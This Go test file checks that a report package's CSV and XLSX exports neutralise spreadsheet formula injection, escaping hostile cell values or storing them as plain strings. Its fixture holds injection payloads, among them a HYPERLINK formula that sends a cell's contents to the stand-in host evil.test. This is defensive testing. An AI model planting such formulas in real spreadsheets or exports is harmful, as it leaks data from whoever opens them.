package report_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/cxmhq/cxm/internal/csvsafe"
	"github.com/cxmhq/cxm/report"
)

const formula = `=HYPERLINK("http://evil.test/?d="&A1,"Open")`

// hostileFixture names everything a user types after a formula.
func hostileFixture(t *testing.T) (report.Input, map[string]string) {
	fx := newFixture(t, false)
	in := fx.in
	in.Organization.Name = formula
	in.Organization.Industry = "@SUM(1+1)"
	in.Assessment.Name = "+" + formula
	in.Plan[0].Title = formula
	in.Plan[0].Owner = "-2+3"
	in.Plan[1].Why = "\t=1+1"
	g := &in.Result.Groups["department"][0]
	old := g.Value
	g.Value = "-" + formula
	for i, v := range in.Assessment.Attributes[0].Values {
		if v == old {
			in.Assessment.Attributes[0].Values[i] = g.Value
		}
	}
	in.Comments.Texts[2] = "@" + formula
	return in, map[string]string{"plan.title": formula, "plan.owner": "-2+3", "plan.why": "\t=1+1", "groups.group": g.Value,
		"comments.comment": "@" + formula}
}

// TestCSVFormulaCells: no cell of any CSV table starts a formula, the
// hostile texts read back through csvsafe.Unescape, numbers stay numbers.
func TestCSVFormulaCells(t *testing.T) {
	in, want := hostileFixture(t)
	found := map[string]bool{}
	for _, table := range report.Tables {
		var buf bytes.Buffer
		if err := report.CSV(&buf, in, table); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				col := table + "." + recs[0][i]
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: %q would run as a formula", col, cell)
					}
				}
				if w, ok := want[col]; ok && csvsafe.Unescape(cell) == w {
					found[col] = true
					if cell != "'"+w {
						t.Errorf("%s = %q, want %q", col, cell, "'"+w)
					}
				}
			}
		}
	}
	for col := range want {
		if !found[col] {
			t.Errorf("the hostile %s was not written", col)
		}
	}
}

// TestXLSXFormulaCells: the workbook holds every text as a string cell,
// never a formula, and unchanged (no apostrophe is needed there).
func TestXLSXFormulaCells(t *testing.T) {
	in, _ := hostileFixture(t)
	x := openXLSX(t, in)
	texts := map[string]bool{formula: true, "+" + formula: true, "@SUM(1+1)": true, "-2+3": true, "\t=1+1": true, "-" + formula: true, "@" + formula: true}
	seen := map[string]bool{}
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := x.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, cell, f)
				}
				if !texts[v] {
					continue
				}
				seen[v] = true
				if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s = %q is of type %v, not a string", sheet, cell, v, typ)
				}
			}
		}
	}
	if len(seen) != len(texts) {
		t.Errorf("the workbook holds %d of the %d hostile texts: %v", len(seen), len(texts), seen)
	}
}
